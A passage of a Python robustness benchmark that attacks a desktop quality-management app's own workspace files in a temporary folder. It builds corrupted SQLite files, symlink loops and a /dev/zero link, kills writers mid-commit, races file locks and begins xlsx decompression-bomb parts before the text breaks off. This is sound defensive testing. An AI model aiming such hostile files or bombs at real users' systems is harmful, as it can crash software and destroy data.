"""``python -m bench.attacks [CATEGORY ...] [--keep]`` (also ``python -m bench attacks``)

Re-attacks the product as a hostile user and a crashing laptop would (issue 9, "Reliability and
trust") and prints one line per category, measured against its target, then a summary table.
Every attack runs on files in a temporary folder; the product's code is only *used* (the CLI in
subprocesses, the services and the storage API in this process), never changed.

Categories (names for the command line):

``hostile``   hostile ``*.qms`` files × ``qms info`` / ``qms verify`` / ``qms backup``
``kills``     a writer SIGKILLed at random moments; readers, then a writable open, after each
``lock``      two writers via symlink / real path and via a hard link; racing opens on a stale lock
``overwrite`` the open file overwritten in place or replaced by rename; the next edits refused
``bombs``     xlsx parts that inflate to 3 GiB (and a part whose declared size lies)
``drawio``    deeply nested draw.io vertices, children-first and parent-first, at n, 2n, 4n
``tamper``    a cut, a rewritten and re-chained, and a back-dated appended audit trail
``formula``   formula-injection payloads in every text field, exported to xlsx

Each failure is printed with what is needed to reproduce it. Exit status 0 when every category
meets its target, 1 otherwise.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import hashlib
import importlib.util
import io
import json
import multiprocessing
import os
import random
import shutil
import signal
import socket
import sqlite3
import stat
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[1]
TESTS = ROOT / "tests"
PY = sys.executable
CLI = [PY, "-m", "qms_desktop.cli"]
TIMEOUT = 30  # seconds a reader may take on a hostile file before it counts as a hang
GIB = 1 << 30


# --------------------------------------------------------------------------- results


@dataclass
class Result:
    key: str
    title: str
    measured: str
    target: str
    passed: bool
    notes: list[str] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    seconds: float = 0.0

    def line(self) -> str:
        verdict = "PASS" if self.passed else "MISS"
        return (f"{self.key:<9} {self.title}: {self.measured} | target {self.target} | "
                f"{verdict} ({self.seconds:.0f} s)")


class Run:
    def __init__(self, tmp: Path):
        self.tmp = tmp
        self.env = dict(os.environ)
        # settings and application data of subprocesses kept out of the user's
        self.env["XDG_CONFIG_HOME"] = str(tmp / "xdg-config")
        self.env["XDG_DATA_HOME"] = str(tmp / "xdg-data")
        self.env["QT_QPA_PLATFORM"] = "offscreen"
        self.env.pop("QMS_TEST_CRASH", None)
        self.env["PYTHONPATH"] = os.pathsep.join(
            [str(ROOT)] + ([self.env["PYTHONPATH"]] if self.env.get("PYTHONPATH") else []))
        self._demo: Path | None = None

    def dir(self, name: str) -> Path:
        d = Path(tempfile.mkdtemp(prefix=f"{name}-", dir=self.tmp))
        return d

    def qms(self, *args: str, timeout: float = TIMEOUT) -> tuple[int | None, str, str, float]:
        """(exit code or None on a hang, stdout, stderr, seconds) of ``qms ARGS``."""
        t0 = time.perf_counter()
        try:
            p = subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=timeout,
                               env=self.env, cwd=self.tmp, errors="replace")
        except subprocess.TimeoutExpired as e:
            out = e.stdout.decode(errors="replace") if isinstance(e.stdout, bytes) else ""
            err = e.stderr.decode(errors="replace") if isinstance(e.stderr, bytes) else ""
            return None, out or "", err or "", time.perf_counter() - t0
        return p.returncode, p.stdout, p.stderr, time.perf_counter() - t0

    def demo(self) -> Path:
        """A demo workspace made once by ``qms demo`` (copy it before changing it)."""
        if self._demo is None:
            d = self.dir("demo")
            p = d / "demo.qms"
            rc, out, err, _ = self.qms("demo", str(p), timeout=120)
            if rc != 0:
                raise RuntimeError(f"qms demo failed: {err.strip()}")
            self._demo = p
        return self._demo


def sha(p: Path) -> str | None:
    h = hashlib.sha256()
    try:
        with open(p, "rb") as f:
            for block in iter(lambda: f.read(1 << 20), b""):
                h.update(block)
    except OSError:
        return None
    return h.hexdigest()


def one_line(text: str) -> bool:
    return len([ln for ln in text.strip().splitlines()]) == 1


def cmdline(args: list[str]) -> str:
    return " ".join(args)


def _kill_test_module():
    """tests/integration/test_kill_mid_edit.py, for its writer and its recovery checks."""
    spec = importlib.util.spec_from_file_location(
        "qms_bench_kill_helpers", TESTS / "integration" / "test_kill_mid_edit.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


# =========================================================================== 1. hostile files


def _page_size(p: Path) -> int:
    with open(p, "rb") as f:
        head = f.read(100)
    (ps,) = struct.unpack(">H", head[16:18])
    return 65536 if ps == 1 else ps


def _sql(p: Path, *statements: str) -> None:
    c = sqlite3.connect(p, isolation_level=None)
    try:
        for s in statements:
            c.execute(s)
    finally:
        c.close()


def _patch(p: Path, offset: int, data: bytes) -> None:
    with open(p, "r+b") as f:
        f.seek(offset)
        f.write(data)


def _minimal_xlsx(path: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = "ID"
    wb.active["B1"] = "Title"
    wb.active["A2"] = "R-1"
    wb.active["B2"] = "A risk"
    wb.save(path)


def _hot_journal(run: Run, d: Path, kill_mod) -> Path:
    """A workspace and the hot journal a writer killed half-way through a commit left."""
    work = Path(tempfile.mkdtemp(dir=d.parent))
    p, rid = kill_mod._workspace(work)
    proc = kill_mod._writer(p, rid, "db-written:3")
    proc.communicate(timeout=120)
    dest = d / "hot.qms"
    shutil.move(str(p), dest)
    shutil.move(str(p.with_name(p.name + "-journal")), d / "hot.qms-journal")
    shutil.rmtree(work, ignore_errors=True)
    return dest


OPENERS = ("info", "verify", "backup")


def hostile_files(run: Run, kill_mod, copies: tuple[str, ...] = OPENERS
                  ) -> list[tuple[str, str, Path]]:
    """(name, use, path) of every hostile file, built afresh for each use (each opener meets
    the file as built, not as the opener before left it), each in a folder of its own."""
    base = run.demo()
    size = base.stat().st_size
    rnd = random.Random(9)
    made: list[tuple[str, str, Path]] = []

    def case(name: str, build: Callable[[Path], Path | None]) -> None:
        uses = copies + (("open",) if "wal" in name else ())
        for use in uses:
            d = run.dir(f"h-{name}-{use}")
            target = build(d)
            made.append((name, use, target or d / "x.qms"))

    def copy(d: Path, name: str = "x.qms") -> Path:
        p = d / name
        shutil.copyfile(base, p)
        return p

    def write(data: bytes) -> Callable[[Path], None]:
        return lambda d: (d / "x.qms").write_bytes(data) and None

    page = _page_size(base)
    raw = base.read_bytes()
    case("zero-bytes", write(b""))
    case("magic-only-16-bytes", write(b"SQLite format 3\0"))
    case("truncated-100-bytes", write(raw[:100]))
    case("truncated-first-page", write(raw[:page]))
    case("truncated-half", write(raw[:size // 2 // page * page]))
    case("truncated-1-byte-short", write(raw[:-1]))
    case("random-garbage-64k", write(rnd.randbytes(65536)))
    case("sqlite-header-then-garbage", write(raw[:100] + rnd.randbytes(size - 100)))
    case("garbage-header-then-workspace", write(rnd.randbytes(100) + raw[100:]))

    def foreign(d: Path) -> None:
        _sql(d / "x.qms", "CREATE TABLE t (a, b)", "INSERT INTO t VALUES (1, 'x')")
    case("foreign-sqlite-db", foreign)

    def foreign_with_our_id(d: Path) -> None:  # our application id, none of our tables
        p = copy(d)
        c = sqlite3.connect(p, isolation_level=None)
        names = [r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        c.execute("PRAGMA foreign_keys=OFF")
        for n in names:
            c.execute(f'DROP TABLE "{n}"')
        c.execute("CREATE TABLE t (a)")
        c.close()
    case("our-app-id-no-tables", foreign_with_our_id)

    case("dropped-table-risk", lambda d: _sql(copy(d), "PRAGMA foreign_keys=OFF",
                                              "DROP TABLE risk") and None)
    case("dropped-table-audit", lambda d: _sql(copy(d), "DROP TABLE audit_event") and None)
    case("dropped-table-alembic", lambda d: _sql(copy(d), "DROP TABLE alembic_version")
         and None)
    case("wal-mode", lambda d: _sql(copy(d), "PRAGMA journal_mode=WAL") and None)

    def wal_bytes_only(d: Path) -> None:
        _patch(copy(d), 18, b"\x02\x02")
    case("wal-header-bytes-patched", wal_bytes_only)

    def stale_wal(d: Path) -> None:
        copy(d)
        (d / "x.qms-wal").write_bytes(rnd.randbytes(4096))
        (d / "x.qms-shm").write_bytes(rnd.randbytes(32768))
    case("stale-garbage-wal-and-shm", stale_wal)

    def stale_wal_only(d: Path) -> None:
        copy(d)
        (d / "x.qms-wal").write_bytes(rnd.randbytes(4096))
    case("stale-garbage-wal", stale_wal_only)

    def wal_of_another(d: Path) -> None:
        """The committed, never checkpointed -wal of another workspace, left beside ours."""
        other = d.parent / f"{d.name}-other.qms"
        shutil.copyfile(base, other)
        subprocess.run([PY, "-c", textwrap.dedent("""
            import os, sqlite3, sys
            c = sqlite3.connect(sys.argv[1], isolation_level=None)
            c.execute("PRAGMA journal_mode=WAL")
            c.execute("UPDATE risk SET title='written by another program'")
            os._exit(0)  # no checkpoint: the change stays in the -wal
        """), str(other)], check=True)
        copy(d)
        shutil.copyfile(f"{other}-wal", d / "x.qms-wal")
    case("valid-wal-of-another-file", wal_of_another)
    case("fifo", lambda d: os.mkfifo(d / "x.qms"))
    case("directory", lambda d: (d / "x.qms").mkdir())

    def loop(d: Path) -> None:
        os.symlink("y.qms", d / "x.qms")
        os.symlink("x.qms", d / "y.qms")
    case("symlink-loop", loop)
    case("dangling-symlink", lambda d: os.symlink("nowhere.qms", d / "x.qms"))
    case("symlink-to-dev-zero", lambda d: os.symlink("/dev/zero", d / "x.qms"))
    case("symlink-to-folder", lambda d: os.symlink(".", d / "x.qms"))

    def garble_page(where: str) -> Callable[[Path], None]:
        def build(d: Path) -> None:
            p = copy(d)
            n = size // page
            k = n // 2 if where == "middle" else n - 1
            _patch(p, k * page, random.Random(k).randbytes(page))
        return build
    case("page-garbled-middle", garble_page("middle"))
    case("page-garbled-last", garble_page("last"))
    case("date-column-garbage", lambda d: _sql(
        copy(d), "UPDATE risk SET review_date='not a date', identified_on='31/02/2026'",
        "UPDATE action SET due_date='yesterday-ish' WHERE id IN (SELECT id FROM action LIMIT 5)")
        and None)
    case("int-column-text", lambda d: _sql(
        copy(d), "UPDATE risk SET severity='high', occurrence=3.75") and None)
    case("blob-in-text-column", lambda d: _sql(
        copy(d), "UPDATE risk SET title=x'00ff10fe', status=x'ff' WHERE id IN "
                 "(SELECT id FROM risk LIMIT 3)") and None)
    case("orphan-foreign-key", lambda d: _sql(
        copy(d), "UPDATE action SET risk_id=999999 WHERE id IN (SELECT id FROM action LIMIT 3)")
        and None)
    case("future-schema-revision", lambda d: _sql(
        copy(d), "UPDATE alembic_version SET version_num='9999_from_the_future'") and None)
    case("unknown-old-revision", lambda d: _sql(
        copy(d), "UPDATE alembic_version SET version_num='0000_bogus'") and None)

    def bad_schema(d: Path) -> None:
        p = copy(d)
        c = sqlite3.connect(p, isolation_level=None)
        c.execute("PRAGMA writable_schema=ON")
        c.execute("UPDATE sqlite_master SET sql='CREATE TABLE risk (id INTEGER PRIMARY KEY, "
                  "((garbled' WHERE name='risk'")
        c.close()
    case("schema-text-garbled", bad_schema)
    case("audit-hash-tampered", lambda d: _sql(
        copy(d), "UPDATE audit_event SET hash='0123' || substr(hash, 5) WHERE id=10") and None)
    case("html-renamed", write(b"<!DOCTYPE html><html><body><h1>Not a workspace</h1>"
                               b"</body></html>\n"))

    def zip_renamed(d: Path) -> None:
        with zipfile.ZipFile(d / "x.qms", "w") as z:
            z.writestr("readme.txt", "hello")
    case("zip-renamed", zip_renamed)
    case("xlsx-renamed", lambda d: _minimal_xlsx(d / "x.qms"))
    case("pdf-renamed", write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"))
    case("gzip-of-workspace", write(gzip.compress(raw[: 64 * 1024], 1)))
    case("utf16-text", write("\ufeffthis is a note, not a workspace\n".encode("utf-16-le")))

    def read_only(d: Path) -> None:
        os.chmod(copy(d), 0o444)
    case("read-only-file", read_only)

    def read_only_folder(d: Path) -> None:
        copy(d)
        os.chmod(d, 0o555)
    case("read-only-folder", read_only_folder)
    case("hot-journal-of-killed-writer", lambda d: _hot_journal(run, d, kill_mod))

    def foreign_journal(d: Path) -> Path:
        hot = _hot_journal(run, d, kill_mod)
        shutil.copyfile(base, d / "x.qms")
        os.replace(d / "hot.qms-journal", d / "x.qms-journal")
        hot.unlink()
        return d / "x.qms"
    case("hot-journal-of-another-file", foreign_journal)

    def empty_journal(d: Path) -> None:
        copy(d)
        (d / "x.qms-journal").write_bytes(b"")
    case("empty-journal", empty_journal)

    def garbage_journal(d: Path) -> None:
        copy(d)
        (d / "x.qms-journal").write_bytes(rnd.randbytes(8192))
    case("garbage-journal", garbage_journal)
    case("page-size-invalid", lambda d: _patch(copy(d), 16, b"\x00\x03"))
    case("page-count-huge", lambda d: _patch(copy(d), 28, b"\x7f\xff\xff\xff"))

    def appended_zeros(d: Path) -> None:
        p = copy(d)
        os.truncate(p, size + 64 * 1024 * 1024)  # sparse
    case("64-mib-zeros-appended", appended_zeros)

    def stale_lock(d: Path) -> None:
        copy(d)
        (d / "x.qms.lock").write_text('{"user": "ghost", "host": "elsewhere", "pid": 1}')
    case("lock-file-of-another-host", stale_lock)
    case("unicode-name", lambda d: copy(d, "Qualität ✓ 品質 😀.qms"))
    return made


def _snapshot(d: Path) -> dict[str, tuple]:
    out = {}
    for name in os.listdir(d):
        p = d / name
        st = os.lstat(p)
        kind = ("link" if stat.S_ISLNK(st.st_mode) else "dir" if stat.S_ISDIR(st.st_mode)
                else "fifo" if stat.S_ISFIFO(st.st_mode) else "file")
        out[name] = (kind, sha(p) if kind == "file" else
                     os.readlink(p) if kind == "link" else None, stat.S_IMODE(st.st_mode))
    return out


def _attack_one(run: Run, name: str, path: Path, opener: str) -> tuple[bool, str, str]:
    """(ok, short outcome, failure reproduction) of one opener on one hostile file."""
    folder = path.parent
    before = _snapshot(folder)
    out_dir = run.dir(f"out-{name}-{opener}")
    dest = out_dir / "copy.qms"
    args = {"info": ["info", str(path)], "verify": ["verify", str(path)],
            "backup": ["backup", str(path), str(dest)]}[opener]
    rc, out, err, secs = run.qms(*args)
    after = _snapshot(folder)
    problems = []
    if rc is None:
        problems.append(f"hung for {TIMEOUT} s")
    elif rc not in (0, 1, 2):
        problems.append(f"exit code {rc}")
    if "Traceback" in out + err:
        problems.append("a Traceback: " + (err.strip().splitlines() or [""])[-1][:200])
    if rc in (1, 2):
        msg = err.strip() or (out.strip() if opener == "verify" else "")
        if not msg:
            problems.append("no message")
        elif err.strip() and not one_line(err):
            lines = err.strip().splitlines()
            # verify's report: one sentence, then "also:" lines naming more problems
            if not (opener == "verify" and lines[0].startswith("qms: verify failed:")
                    and all(ln.startswith("  also: ") or ln.startswith("  (")
                            for ln in lines[1:])):
                problems.append(f"{len(lines)} lines on stderr")
    if after != before:
        changed = sorted(set(before) ^ set(after) | {k for k in before if k in after
                                                     and before[k] != after[k]})
        problems.append("changed beside it: " + ", ".join(changed))
    left = sorted(os.listdir(out_dir))
    if rc == 0 and opener == "backup":
        if left != ["copy.qms"]:
            problems.append(f"backup folder holds {left}")
    elif left:
        problems.append(f"left in the backup folder: {left}")
    said = (err.strip() or out.strip()).splitlines()
    outcome = f"exit {rc}: {said[0][:150] if said else ''}"
    repro = ""
    if problems:
        repro = (f"{name} × qms {opener}: {'; '.join(problems)} — reproduce: build the "
                 f"'{name}' file (bench/attacks.py hostile_files), then `qms {cmdline(args)}`; "
                 f"stderr: {err.strip()[:300]!r}")
    shutil.rmtree(out_dir, ignore_errors=True)
    return not problems, outcome, repro


def attack_hostile(run: Run, args) -> Result:
    kill_mod = _kill_test_module()
    built = hostile_files(run, kill_mod)
    jobs = [(n, p, o) for n, o, p in built if o in OPENERS]
    files = sorted({n for n, _o, _p in built})
    # every (file, opener) has a folder of its own: they run in parallel
    with ThreadPoolExecutor(max_workers=max(2, os.cpu_count() or 2)) as pool:
        results = list(zip(jobs, pool.map(lambda j: _attack_one(run, *j), jobs)))
    ok = sum(1 for _, (good, _, _) in results if good)
    res = Result("hostile", f"hostile workspace files ({len(files)} files × info/verify/backup)",
                 f"{ok}/{len(results)} handled", f"{len(results)}/{len(results)} and ≥ 108",
                 ok == len(results) and len(results) >= 108)
    res.failures = [r for _, (good, _, r) in results if not good]
    if args.verbose:
        for (n, _p, o), (good, outcome, _r) in results:
            res.notes.append(f"{'ok ' if good else 'BAD'} {n:<32} {o:<7} {outcome}")
    # what the readers do with the journal a killed writer left
    for (n, _p, o), (good, outcome, _r) in results:
        if n == "hot-journal-of-killed-writer":
            res.notes.append(f"hot journal, qms {o}: {outcome}")
    # what a writable open (the app) then does with a -wal left beside the file
    from qms_desktop.services.verify import verify
    from qms_desktop.storage.workspace import WorkspaceError, open_workspace

    for n, use, q in built:
        if use != "open":
            continue
        d = q.parent
        try:
            ws = open_workspace(q)
            notice = ws.info.notice or "(no notice)"
            rep = verify(ws)
            ws.close()
            said = (f"opened, notice: {notice}; verify then: "
                    f"{'ok' if rep.ok else str(rep.problems[0])[:160]}")
            if not rep.ok:
                res.failures.append(
                    f"{n}: a writable open (open_workspace) took the -wal into the file "
                    f"silently (notice: {notice}); the file no longer verifies: "
                    f"{str(rep.problems[0])[:160]}")
                res.passed = False
        except WorkspaceError as e:
            said = f"refused: {e}"
        res.notes.append(f"{n}, writable open of a copy: {said} — left: "
                         f"{sorted(x.name for x in d.iterdir())}")
    for (_n, p, _o) in jobs:  # undo the read-only folder so it can be removed
        with contextlib.suppress(OSError):
            os.chmod(p.parent, 0o755)
    return res


# =========================================================================== 2. kills


def attack_kills(run: Run, args) -> Result:
    from qms_desktop.storage.workspace import open_workspace

    km = _kill_test_module()
    rounds = args.kills + args.crash_kills
    rnd = random.Random(2)
    recovered = 0
    failures: list[str] = []
    hot = 0
    said_restore = 0
    acked_total = 0
    for i in range(rounds):
        tmp = run.dir(f"kill-{i}")
        p, rid = km._workspace(tmp)
        crash = None
        if i >= args.kills:  # SIGKILL from inside, at a random point of a random commit
            crash = f"{rnd.choice(list(km.LEFT))}:" \
                    f"{rnd.randint(1, 80)}"
        proc = km._writer(p, rid, crash)
        # half the kills after a random number of acknowledged edits (plus a random few ms,
        # so the kill lands anywhere inside the next commit), half after a random wall time
        acked = 0
        if crash:
            pass
        elif i % 2 == 0:
            stop_after = rnd.randint(1, 60)
            for line in proc.stdout:
                acked = int(line)
                if acked >= stop_after:
                    break
            time.sleep(rnd.uniform(0, 0.006))
        else:
            time.sleep(rnd.uniform(0.3, 1.6))
        if not crash:
            proc.send_signal(signal.SIGKILL)
        rest, _err = proc.communicate(timeout=60)
        for line in rest.split():
            acked = max(acked, int(line))
        acked_total += acked
        journal = p.with_name(p.name + "-journal")
        if journal.exists() and journal.stat().st_size and journal.read_bytes()[:1] != b"\0":
            hot += 1
        problems = []
        before = (sha(p), sha(journal), km._side_files(p))
        readers = {verb: subprocess.Popen([*CLI, verb, str(p)], stdout=subprocess.PIPE,
                                          stderr=subprocess.PIPE, text=True, env=run.env)
                   for verb in ("info", "verify")}  # two readers at once, as two windows would
        for verb, reader in readers.items():
            try:
                out, err = reader.communicate(timeout=TIMEOUT)
                rc = reader.returncode
            except subprocess.TimeoutExpired:
                reader.kill()
                out, err = reader.communicate()
                rc = None
            said = out + err
            if "restore" in said.lower():
                said_restore += 1
                problems.append(f"qms {verb} said restore: {said.strip()[:200]!r}")
            if rc == 1 and "not closed properly" in err and one_line(err):
                pass  # a hot journal: says how to finish, reader changes nothing
            elif rc != 0:
                problems.append(f"qms {verb} exit {rc}: {(err or out).strip()[:200]!r}")
        if (sha(p), sha(journal), km._side_files(p)) != before:
            problems.append("a reader changed the file or its journal")
        try:
            ws = open_workspace(p)
            try:
                notice = ws.info.notice or ""
                if "restore" in notice.lower():
                    problems.append(f"the writable open said {notice!r}")
                km._check_recovered(ws, rid, acked)
            finally:
                ws.close()
            if km._side_files(p):
                problems.append(f"left beside the file: {km._side_files(p)}")
        except AssertionError as e:
            problems.append(f"not recovered: {str(e)[:300]}")
        except Exception as e:  # noqa: BLE001 — any failure to open is the finding
            problems.append(f"writable open failed: {type(e).__name__}: {e}")
        if problems:
            failures.append(f"kill {i} ({crash or 'random moment'}) after {acked} acknowledged "
                            f"rounds: {'; '.join(problems)}"
                            " — reproduce: tests/integration/test_kill_mid_edit.py WRITER on a "
                            "new workspace, SIGKILL it, then qms info/verify and open_workspace")
        else:
            recovered += 1
        shutil.rmtree(tmp, ignore_errors=True)
    res = Result("kills", f"writer SIGKILLed ({args.kills} at random moments, "
                 f"{args.crash_kills} at random points of a commit)",
                 f"{recovered}/{rounds} recovered with every acknowledged edit, "
                 f"{said_restore} outputs saying 'restore'",
                 f"{rounds}/{rounds}, 0 'restore'", recovered == rounds and not said_restore)
    res.notes.append(f"{acked_total} acknowledged edit rounds in all; {hot} kills left a hot "
                     "journal")
    res.failures = failures
    return res


# =========================================================================== 3. lock

HOLDER = textwrap.dedent("""
    import sys
    from qms_desktop.storage.workspace import WorkspaceError, open_workspace
    try:
        ws = open_workspace(sys.argv[1], user="holder")
    except WorkspaceError as e:
        print("refused " + str(e), flush=True)
        sys.exit(0)
    print("ok", flush=True)
    sys.stdin.readline()
    ws.close()
""")


def _two_writers(run: Run, first: Path, second: Path) -> tuple[bool, str]:
    """A process opens ``first`` for writing; then this process opens ``second``. True when
    the second open is refused (the lock is shared)."""
    from qms_desktop.storage.workspace import WorkspaceError, open_workspace

    holder = subprocess.Popen([PY, "-c", HOLDER, str(first)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                              env=run.env)
    try:
        said = holder.stdout.readline().strip()
        if said != "ok":
            return False, f"the first writer could not open: {said} {holder.stderr.read()}"
        try:
            ws = open_workspace(second, user="contender")
        except WorkspaceError as e:
            return True, str(e)
        ws.close()
        return False, "both hold the lock"
    finally:
        with contextlib.suppress(Exception):
            holder.stdin.write("\n")
            holder.stdin.flush()
        holder.wait(timeout=30)


def _racer(path: str, start, hold, answers) -> None:
    from qms_desktop.storage.workspace import WorkspaceError, WorkspaceLockedError, open_workspace

    start.wait(timeout=60)
    ws = None
    try:
        ws = open_workspace(path, user=f"racer{os.getpid()}")
        answers.put("ok")
    except WorkspaceLockedError:
        answers.put("locked")
    except WorkspaceError as e:
        answers.put(f"error {e}")
    except Exception as e:  # noqa: BLE001
        answers.put(f"crash {type(e).__name__}: {e}")
    try:
        hold.wait(timeout=60)  # every racer answered before anyone lets go
    finally:
        if ws is not None:
            ws.close()


def attack_lock(run: Run, args) -> Result:
    from qms_desktop.storage.workspace import create_workspace

    d = run.dir("lock")
    real = d / "real.qms"
    create_workspace(real).close()
    link = d / "link.qms"
    os.symlink(real.name, link)
    hard = d / "hard.qms"
    os.link(real, hard)
    failures: list[str] = []
    pairs = 0
    refused = 0
    for i in range(5):
        for kind, a, b in (("symlink", link, real), ("hard link", hard, real)):
            first, second = (a, b) if i % 2 == 0 else (b, a)
            pairs += 1
            ok, said = _two_writers(run, first, second)
            refused += ok
            if not ok:
                failures.append(f"{kind}: writer via {first.name} open, then open_workspace("
                                f"{second.name}) → {said}")
    # racing opens on a stale lock left by a dead process on this host
    dead = subprocess.Popen([PY, "-c", "pass"])
    dead.wait()
    ctx = multiprocessing.get_context("fork")
    per_round, rounds = 20, args.race // 20
    both = 0
    none = 0
    errors: list[str] = []
    winners_per_round = []
    for r in range(rounds):
        (d / "real.qms.lock").write_text(json.dumps(
            {"user": "ghost", "host": socket.gethostname(), "pid": dead.pid,
             "since": "2026-01-01T00:00:00"}), encoding="utf-8")
        start, hold = ctx.Barrier(per_round), ctx.Event()
        answers = ctx.Queue()
        paths = [real, link, hard]
        procs = [ctx.Process(target=_racer, args=(str(paths[k % 3]), start, hold, answers))
                 for k in range(per_round)]
        for p in procs:
            p.start()
        got = [answers.get(timeout=120) for _ in procs]
        hold.set()
        for p in procs:
            p.join(timeout=60)
        wins = got.count("ok")
        winners_per_round.append(wins)
        both += wins > 1
        none += wins == 0
        errors += [g for g in got if g not in ("ok", "locked")]
    if both:
        failures.append(f"racing opens: rounds with more than one writer: {winners_per_round}")
    if errors:
        failures.append(f"racing opens: unexpected answers {errors[:3]}")
    total = rounds * per_round
    res = Result("lock", "one writer per file", f"{refused}/{pairs} second writers refused "
                 f"(symlink, hard link); {total} racing opens on a stale lock: {both} rounds with "
                 f"two writers, {none} with none", f"{pairs}/{pairs}, 0 rounds with two writers",
                 refused == pairs and not both and not errors)
    res.notes.append(f"writers per round of {per_round} racers (real path, symlink, hard link "
                     f"mixed): {winners_per_round}")
    res.failures = failures
    return res


# =========================================================================== 4. overwritten


def attack_overwrite(run: Run, args) -> Result:
    from sqlalchemy import select

    from qms_desktop.services import records as R
    from qms_desktop.storage.models import AuditEvent, Role
    from qms_desktop.storage.workspace import WorkspaceError, create_workspace, open_workspace

    failures: list[str] = []
    refused_total = attempts = written_into_other = 0
    notes = []
    for how in ("other workspace, in place", "other workspace, renamed over",
                "older copy of the same workspace, in place",
                "older copy of the same workspace, renamed over"):
        d = run.dir("overwrite")
        p = d / "ws.qms"
        ws = create_workspace(p, organization="Mine")
        R.create(ws, "role", {"name": "mine 0"})
        if "same" in how:
            ws.close()
            shutil.copyfile(p, d / "older.qms")
            ws = open_workspace(p)
            R.create(ws, "role", {"name": "mine 1"})
            other = d / "older.qms"
        else:
            other = d / "other.qms"
            w2 = create_workspace(other, organization="Other")
            R.create(w2, "role", {"name": "their role"})
            w2.close()
        other_bytes = other.read_bytes()
        want = hashlib.sha256(other_bytes).hexdigest()
        if "in place" in how:
            with open(p, "r+b") as f:
                f.write(other_bytes)
                f.truncate()
        else:
            os.replace(other, p)
        sentences = set()
        for i in range(5):
            attempts += 1
            try:
                R.create(ws, "role", {"name": f"attack {i}"})
            except WorkspaceError as e:
                refused_total += 1
                sentences.add(str(e))
            except Exception as e:  # noqa: BLE001
                failures.append(f"{how}: edit {i} raised {type(e).__name__}: {e}")
        with contextlib.suppress(Exception):
            ws.close()
        # what the file at the path (the other workspace's bytes) holds now
        got = sha(p)
        if got != want:
            c = sqlite3.connect(f"file:{p}?mode=ro", uri=True)
            try:
                names = [r[0] for r in c.execute("SELECT name FROM role WHERE name LIKE "
                                                 "'attack %'")]
                events = c.execute("SELECT count(*) FROM audit_event WHERE new LIKE "
                                   "'%attack %'").fetchone()[0]
            finally:
                c.close()
            written_into_other += len(names)
            failures.append(f"{how}: the other file's bytes changed ({len(names)} 'attack' "
                            f"roles, {events} audit events naming them)")
        bad = [s for s in sentences if not s.strip().endswith(".") or "\n" in s]
        if bad:
            failures.append(f"{how}: refusal not a sentence: {bad}")
        notes.append(f"{how}: {len(sentences)} distinct refusal(s): "
                     f"{' | '.join(sorted(sentences))[:240]}")
        with contextlib.suppress(Exception):  # the trail of what is now at the path verifies
            from qms_desktop.services.verify import verify
            w = open_workspace(p, read_only=True)
            with w.session() as s:
                s.scalars(select(Role.name)).all()
                s.scalars(select(AuditEvent.id)).all()
            rep = verify(w)
            w.close()
            if not rep.ok:
                failures.append(f"{how}: the file at the path no longer verifies: "
                                f"{rep.problems[:1]}")
        shutil.rmtree(d, ignore_errors=True)
    res = Result("overwrite", "open file overwritten / replaced under the writer",
                 f"{written_into_other} edits written into the other file; {refused_total}/"
                 f"{attempts} edits refused with a sentence", f"0; {attempts}/{attempts}",
                 not written_into_other and refused_total == attempts and not failures)
    res.notes, res.failures = notes, failures
    return res


# =========================================================================== 5. xlsx bombs

XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.styles+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/sharedStrings" Target="sharedStrings.xml"/>'
        '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/styles" Target="styles.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Risks" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/worksheets/sheet1.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
